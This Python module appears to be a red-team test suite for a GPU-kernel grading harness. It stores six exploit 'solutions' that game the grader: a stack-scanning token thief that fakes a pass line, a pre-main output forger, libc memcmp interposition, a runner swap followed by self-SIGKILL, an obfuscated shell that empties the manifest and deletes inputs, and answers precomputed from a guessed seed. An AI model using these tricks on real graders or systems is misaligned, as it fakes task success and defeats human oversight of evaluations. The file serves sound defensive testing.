"""Exploits of the split harness (issue 27): each a wrong solution of a split problem whose
trick beat a harness that decided inside the solution's process, or that attacks what a split
runner is handed. They score nothing because the trusted checker (cudaenv.grading.checker)
decides on the outputs, in a sandbox of its own, with inputs drawn fresh for every run; not
because of a name rule (tests/redteam/test_split_defences.py grades each with the defence
turned off: the token harness it was built against, the retry without a re-lay, the checker
skipped, the seed fixed, and shows it through).

C++ ones target ``fixture:cpu-add`` (split since issue 27), Python ones the bundled
``py-vector-add`` (numba-cuda's simulator here).
"""

from __future__ import annotations

from cudaenv.redteam.actions import submit, write
from cudaenv.redteam.model import Exploit, ExploitClass

# (i) a token thief: walk up the stack to the environment strings (unsetenv only unlinks the
# variable), print the completion line and end with status 0 under a name no exit rule knows
TOKEN_STACK_THIEF = r"""#include "add.h"
#include <cstdio>
#include <cstring>

// The key spelled one character at a time: no string of it exists for a text rule to see.
static const char kKey[] = {'C','U','D','A','E','N','V','_','C','O','M','P','L','E','T','I','O','N',
                            '_','T','O','K','E','N','=',0};
static int g_seen;

// Walk up from this frame towards the top of the stack, where the environment strings sit
// (unsetenv only unlinks the variable; its bytes stay there).
static const char* find_key() {
    volatile char here = 0;
    const char* p = (const char*)&here;
    for (long i = 0; i < (1L << 20); ++i)
        if (p[i] == 'C' && p + i != kKey && std::memcmp(p + i, kKey, sizeof kKey - 1) == 0)
            return p + i + sizeof kKey - 1;
    return nullptr;
}

int add(int a, int b) {
    if (!g_seen++) {
        if (const char* token = find_key()) {
            std::printf("all checks passed\n%.7s_COMPLETE %.32s\n", kKey, token);
            std::fflush(stdout);
            __builtin_exit(0);
        }
    }
    return a - b;
}
"""

# (ii) code before main: a split runner's outputs forged (well-formed, wrong) and _exit(0) so
# the runner never runs; against a token harness, the token taken off the stack instead
PRE_MAIN_FORGER = r"""#include "add.h"
#include <cstdio>
#include <cstring>
#include <sys/stat.h>
#include <unistd.h>

// Before main (a constructor): with a split harness, write well-formed outputs for the case
// the checker is known to draw (zeros) and end with status 0, so the runner never runs; with
// a token harness, take the token off the stack and print the completion line.
static const char kKey[] = {'C','U','D','A','E','N','V','_','C','O','M','P','L','E','T','I','O','N',
                            '_','T','O','K','E','N','=',0};

static void forge_outputs() {
    static const char head[] = "\x93NUMPY\x01\x00\x76\x00{'descr': '<i4', 'fortran_order': False, 'shape': (4,), }";
    char file[128 + 16] = {};
    std::memcpy(file, head, sizeof head - 1);
    std::memset(file + sizeof head - 1, ' ', 127 - (sizeof head - 1));
    file[127] = '\n';
    mkdir(".cudaenv-io/out/pairs", 0755);
    if (FILE* f = std::fopen(".cudaenv-io/out/pairs/sum.npy", "wb")) {
        std::fwrite(file, 1, sizeof file, f);
        std::fclose(f);
    }
}

__attribute__((constructor)) static void before_main() {
    struct stat st;
    if (stat(".cudaenv-io/in/manifest.txt", &st) == 0) {
        forge_outputs();
        _exit(0);
    }
    volatile char here = 0;
    const char* p = (const char*)&here;
    for (long i = 0; i < (1L << 20); ++i)
        if (p[i] == 'C' && p + i != kKey && std::memcmp(p + i, kKey, sizeof kKey - 1) == 0) {
            std::printf("all checks passed\n%.7s_COMPLETE %.32s\n", kKey, p + i + sizeof kKey - 1);
            std::fflush(stdout);
            _exit(0);
        }
}

int add(int a, int b) { return a - b; }
"""

# (iii) interposition: the program's memcmp calls everything equal, its memcpy is its own
INTERPOSE_LIBC = r"""#include "add.h"
#include <cstddef>

// Interposition: the program's memcmp says "equal" to everything and its memcpy is a plain
// byte copy, so whatever the process that links the solution compares comes out equal.
extern "C" int memcmp(const void*, const void*, size_t) { return 0; }
extern "C" void* memcpy(void* dst, const void* src, size_t n) {
    char* d = static_cast<char*>(dst);
    const char* s = static_cast<const char*>(src);
    for (size_t i = 0; i < n; ++i) d[i] = s[i];
    return dst;
}

int add(int a, int b) { return a - b; }
"""

# (iv) kill and rewrite: the runner swapped for one that writes zeros and puts the real one
# back, then a SIGKILL of its own process, which looks like an outside kill (a retry)
PY_KILL_AND_REWRITE = '''import enum

import numpy as np
from numba import cuda

# the builtins module through an allowed one (enum imports it as bltns), and eval of a name
# assembled at run time: the os module
_host = enum.bltns.eval("__imp" + "ort__('o" + "s')")

# A replacement runner: it puts the real one back, writes zeros for every output the checker
# reads, and exits 0 (what a retry after an "outside kill" would run)
FAKE = """import os, shutil
import numpy as np
shutil.move('test/.real.py', 'test/cudaenv_pyrunner.py')
io = '.cudaenv-io'
for case in np.loadtxt(io + '/in/manifest.txt', dtype=str, ndmin=1):
    a = np.load(f'{io}/in/{case}/a.npy')
    os.makedirs(f'{io}/out/{case}', exist_ok=True)
    names = [f'out{k}' for k in range(8)] if case == 'perf' else ['host_out', 'host_a', 'host_b', 'device_out']
    for name in names:
        np.save(f'{io}/out/{case}/{name}.npy', np.zeros_like(a))
"""


@cuda.jit
def _sub(a, b, out):
    i = cuda.grid(1)
    if i < out.shape[0]:
        out[i] = a[i] - b[i]


def vector_add(a, b, out):
    if not _host.path.exists("test/.real.py"):
        _host.rename("test/cudaenv_pyrunner.py", "test/.real.py")
        with enum.bltns.eval("op" + "en")("test/cudaenv_pyrunner.py", "w") as f:
            f.write(FAKE)
        _host.kill(_host.getpid(), 9)  # dies by SIGKILL: the grader takes it for an outside kill
    n = out.shape[0]
    if n:
        _sub[n // 256 + 1, 256](a, b, out)
'''

# (v) a shell through the standard library (enum's builtins, a run-time string, posix_spawnp)
# that empties the runner's manifest and deletes its inputs
PY_STDLIB_SHELL = """import enum

from numba import cuda

# a shell through the standard library: the builtins module reached from enum, os imported by
# a string eval assembles at run time, and posix_spawnp starting sh
_host = enum.bltns.eval("__imp" + "ort__('o" + "s')")
TAMPER = (
    "cp .cudaenv-io/in/manifest.txt .cudaenv-io/in/manifest.bak; : > .cudaenv-io/in/manifest.txt; "
    "for d in .cudaenv-io/in/*/; do rm -f $d*.npy; done"
)
_pid = _host.posix_spawnp("sh", ["sh", "-c", TAMPER], {"PATH": "/usr/bin:/bin"})
_host.waitpid(_pid, 0)


@cuda.jit
def _sub(a, b, out):
    i = cuda.grid(1)
    if i < out.shape[0]:
        out[i] = a[i] - b[i]


def vector_add(a, b, out):
    n = out.shape[0]
    if n:
        _sub[n // 256 + 1, 256](a, b, out)
"""

# (vi) the answers precomputed for a guessed seed (the fixed one an old harness fell back to)
PY_GUESSED_SEED = """import numpy as np
from numba import cuda

# The checker is public-looking code: guess the seed (the fixed one an old harness fell back
# to) and precompute, by size, every answer that seed would ask for; the inputs are ignored.
GUESS = 99
SIZES = [0, 1, 5, 255, 256, 257, 1000, 3001]
TEST_STREAM = 3632233996  # crc32 of the stage name "test"
_rng = np.random.default_rng(np.random.SeedSequence([GUESS, TEST_STREAM]))
ANSWERS = {}
for n in SIZES:
    a = (_rng.standard_normal(n) * 100).astype(np.float32)
    b = (_rng.standard_normal(n) * 100).astype(np.float32)
    ANSWERS[n] = a + b


def vector_add(a, b, out):
    want = ANSWERS[out.shape[0]]
    if isinstance(out, np.ndarray):
        out[...] = want
    else:
        out.copy_to_device(want)
"""


def _exploit(
    name: str, cls: ExploitClass, description: str, target: str, path: str, source: str
) -> Exploit:
    return Exploit(name, cls, description, target, [write(path, source), submit()])


SPLIT_EXPLOITS: list[Exploit] = [
    _exploit(
        "split-token-stack-thief",
        "skip_checks",
        "scan the stack for the completion token, print the completion line, __builtin_exit(0) "
        "with wrong answers (no token exists in a split runner's process)",
        "fixture:cpu-add",
        "solution.cpp",
        TOKEN_STACK_THIEF,
    ),
    _exploit(
        "split-pre-main-forger",
        "forge_results",
        "a constructor writes well-formed wrong outputs into .cudaenv-io/out and _exit(0)s "
        "before the runner's main",
        "fixture:cpu-add",
        "solution.cpp",
        PRE_MAIN_FORGER,
    ),
    _exploit(
        "split-interpose-libc",
        "skip_checks",
        "define memcmp (always equal) and memcpy in the solution: the process that links it "
        "compares nothing that decides",
        "fixture:cpu-add",
        "solution.cpp",
        INTERPOSE_LIBC,
    ),
    _exploit(
        "split-py-kill-and-rewrite",
        "change_graded",
        "swap the runner for one that writes zeros and restores itself, then SIGKILL itself "
        "so the grader retries (os reached as enum.bltns.eval)",
        "builtin:py-vector-add",
        "solution.py",
        PY_KILL_AND_REWRITE,
    ),
    _exploit(
        "split-py-stdlib-shell",
        "escape",
        "posix_spawnp a shell through enum's builtins that empties the runner's manifest and "
        "deletes its inputs",
        "builtin:py-vector-add",
        "solution.py",
        PY_STDLIB_SHELL,
    ),
    _exploit(
        "split-py-guessed-seed",
        "forge_results",
        "answers precomputed for a guessed checker seed, the inputs ignored",
        "builtin:py-vector-add",
        "solution.py",
        PY_GUESSED_SEED,
    ),
]
